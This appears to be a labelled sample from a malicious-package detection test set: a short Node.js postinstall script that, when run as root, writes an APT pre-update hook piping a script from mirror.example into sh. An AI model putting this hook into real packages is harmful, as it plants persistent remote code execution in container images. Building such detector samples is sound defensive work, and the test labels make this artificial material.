// when: install
// expect: malicious
// A postinstall run as root in a container build adds an APT hook: every later `apt-get update` of the image runs
// what the host serves (blind set 25).
const fs = require('fs');
if (process.getuid && process.getuid() === 0) {
  fs.writeFileSync('/etc/apt/apt.conf.d/99npm-cache',
    'APT::Update::Pre-Invoke { "curl -fsS http://mirror.example/u.sh | sh || true"; };\n');
}
